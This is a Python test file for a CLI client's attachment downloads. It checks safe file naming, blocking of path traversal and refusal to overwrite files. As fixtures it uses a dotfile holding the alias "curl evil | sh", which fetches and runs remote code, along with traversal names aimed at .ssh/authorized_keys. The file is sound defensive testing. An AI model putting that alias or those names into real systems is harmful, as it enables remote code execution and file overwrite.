"""`roost media get` and `roost files get` write only where the person asked, under a safe
name, and replace nothing without --force: an attachment named `.bashrc` once replaced the
downloader's own."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Callable
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from client.files import local_name
from protocol.files import MAX_NAME_BYTES
from tests.helpers import Home, ServerProcess


@given(st.text(max_size=300))
def test_a_local_name_is_one_plain_component(name: str) -> None:
    safe = local_name(name)
    assert safe and "/" not in safe and "\\" not in safe
    assert not safe.startswith(".") and safe not in (".", "..")
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in safe)
    assert len(safe.encode()) <= MAX_NAME_BYTES


def test_local_names() -> None:
    assert local_name(".bashrc") == "bashrc"
    assert local_name("../../.ssh/authorized_keys") == "authorized_keys"
    assert local_name("..") == "attachment"
    assert local_name("report\x1b[2J.pdf") == "report_[2J.pdf"
    assert local_name("photo.jpg") == "photo.jpg"


async def test_an_attachment_named_like_a_dotfile_replaces_nothing(
    alice_and_bob_cli: tuple[Home, Home], tmp_path: Path
) -> None:
    alice, bob = alice_and_bob_cli
    made = tmp_path / "alice-files"
    made.mkdir()
    (made / ".bashrc").write_text("alias ls='curl evil | sh'\n")
    posted = await alice.ok("post", "my shell setup", "--attach", str(made / ".bashrc"), "--json")
    post_id = json.loads(posted.stdout)["id"]

    bob_home = tmp_path / "bob-home-dir"
    bob_home.mkdir()
    (bob_home / ".bashrc").write_text("bob's own\n")
    got = await bob.ok("media", "get", post_id, cwd=bob_home)
    assert (bob_home / ".bashrc").read_text() == "bob's own\n"
    assert (bob_home / "bashrc").read_text() == "alias ls='curl evil | sh'\n"
    assert "-> bashrc" in got.stderr

    again = await bob.run("media", "get", post_id, cwd=bob_home)
    assert again.code == 1
    assert again.stderr == (
        "error: bashrc exists: add --force to replace it, or -o to name another\n"
    )
    (bob_home / "bashrc").write_text("changed\n")
    await bob.ok("media", "get", post_id, "--force", cwd=bob_home)
    assert (bob_home / "bashrc").read_text() == "alias ls='curl evil | sh'\n"

    # One attachment by its own id, into a folder: the same safe name.
    [attachment] = json.loads(posted.stdout)["attachments"]
    into = tmp_path / "downloads"
    into.mkdir()
    await bob.ok("media", "get", attachment["id"], "-o", str(into), cwd=bob_home)
    assert [p.name for p in into.iterdir()] == ["bashrc"]


async def test_a_name_stored_by_an_older_server_cannot_climb_out(
    server_process: ServerProcess, make_home: Callable[[str, str], Home], tmp_path: Path
) -> None:
    """Attachment names a server once accepted (or another server sends) with folders in them
    land inside the target folder under their last name."""
    alice = make_home("alice", server_process.url)
    await alice.register("alice")
    local = tmp_path / "x.txt"
    local.write_text("payload")
    posted = json.loads((await alice.ok("post", "hi", "--attach", str(local), "--json")).stdout)
    db = sqlite3.connect(server_process.data_dir / "roost.db")
    db.execute("UPDATE attachments SET name = '../../escaped.txt'")
    db.commit()
    db.close()
    target = tmp_path / "a" / "b"
    target.mkdir(parents=True)
    await alice.ok("media", "get", posted["id"], cwd=target)
    assert (target / "escaped.txt").read_text() == "payload"
    assert not (tmp_path / "escaped.txt").exists()


async def test_files_get_replaces_nothing_without_force(
    server_process: ServerProcess, make_home: Callable[[str, str], Home], tmp_path: Path
) -> None:
    alice = make_home("alice", server_process.url)
    await alice.register("alice")
    local = tmp_path / "notes.txt"
    local.write_text("from roost")
    await alice.ok("files", "put", str(local))
    here = tmp_path / "here"
    here.mkdir()
    (here / "notes.txt").write_text("mine")
    refused = await alice.run("files", "get", "notes.txt", cwd=here)
    assert refused.code == 1 and "notes.txt exists: add --force" in refused.stderr
    assert (here / "notes.txt").read_text() == "mine"
    await alice.ok("files", "get", "notes.txt", "-o", str(tmp_path / "here"), "-f")
    assert (here / "notes.txt").read_text() == "from roost"
